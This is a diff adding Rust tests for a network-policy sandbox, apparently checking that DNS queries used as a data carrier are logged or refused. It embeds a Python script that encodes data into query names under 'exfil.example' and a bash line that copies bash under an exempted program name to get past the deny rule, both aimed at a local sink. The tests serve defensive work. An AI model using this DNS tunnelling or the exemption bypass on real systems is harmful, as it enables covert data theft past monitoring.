@@ -16,6 +16,8 @@ pub const ALL: &[(&str, Run)] = &[
     ("sendmmsg-refused", many_messages_refused),
     ("io-uring-connect-refused", io_uring_connect),
     ("raw-icmp-refused", raw_icmp),
+    ("dns-as-carrier", dns),
+    ("dns-as-carrier-refused", dns_refused),
     ("other-sockets", other_sockets),
     ("other-sockets-refused", other_sockets_refused),
     ("tunnel-refused", tunnel),
@@ -150,6 +152,58 @@ fn io_uring_connect(world: &mut World) -> Result<()> {
     check::equal("result of the connect", output.text(), "-1".to_owned())?;
     refused(world, "net.connect", "127.0.0.2", 18_205)?;
     check::equal("connections", sink.received()?, Vec::new())
+}
+
+/// Argument: the address of a resolver. Data in the names that it is asked for; prints how many bytes
+/// went out.
+const QUESTIONS: &str = r#"
+import socket, struct, sys
+asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+data = bytes(range(256)) * 4
+sent = 0
+for number, at in enumerate(range(0, len(data), 64)):
+    text = data[at:at + 64].hex().encode()
+    labels = [text[:60], text[60:120], text[120:], b"%d" % number, b"exfil", b"example"]
+    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
+    question = struct.pack("!HHHHHH", number, 0x100, 1, 0, 0, 0) + name + b"\0\x10\0\x01"
+    sent += asker.sendto(question, (sys.argv[1], 53))
+asker.close()
+print(sent)
+"#;
+const RESOLVER: &str = "127.0.0.55";
+
+/// A name can carry anything: what goes to a resolver is an upload like any other.
+fn dns(world: &mut World) -> Result<()> {
+    let _resolver = Sink::start("datagram", RESOLVER, 53)?;
+    let output = guest::python(QUESTIONS, &[RESOLVER])?;
+    check::ok(&output)?;
+    let sent: u64 = output.text().parse()?;
+    check::that(sent > 2048, format!("{sent} bytes do not hold the data"))?;
+    let sums = [
+        ("/bytes", json!(sent)),
+        ("/calls", json!(16)),
+        ("/destination/protocol", json!("udp")),
+        ("/process/argv/0", json!("python3")),
+    ];
+    uploaded(world, "close", RESOLVER, 53, &sums)?;
+    Ok(())
+}
+
+/// Only the resolver's own program may ask.
+fn dns_refused(world: &mut World) -> Result<()> {
+    let rule = "  - { id: only-the-resolver-asks, on: [net.connect, net.upload], \
+        when: { destination: dns }, unless: { program: backup }, action: deny }\n";
+    let policy = World::usual_policy_and(rule)
+        .replace("destinations:\n", "destinations:\n  - { name: dns, ports: [53] }\n");
+    world.policy(&policy)?;
+    let resolver = Sink::start("datagram", RESOLVER, 53)?;
+    check::refused(&guest::python(QUESTIONS, &[RESOLVER])?)?;
+    refused(world, "net.upload", RESOLVER, 53)?;
+    check::equal("questions", resolver.received()?, Vec::new())?;
+    let script = "cp /bin/bash /opt/backup/resolver && \
+        exec /opt/backup/resolver -c 'printf question >/dev/udp/$0/53' \"$1\"";
+    check::ok(&guest::bash(script, &[RESOLVER])?)?;
+    check::equal("bytes of the first question", resolver.first()?, 8)
 }
 
 /// An echo request can carry anything.
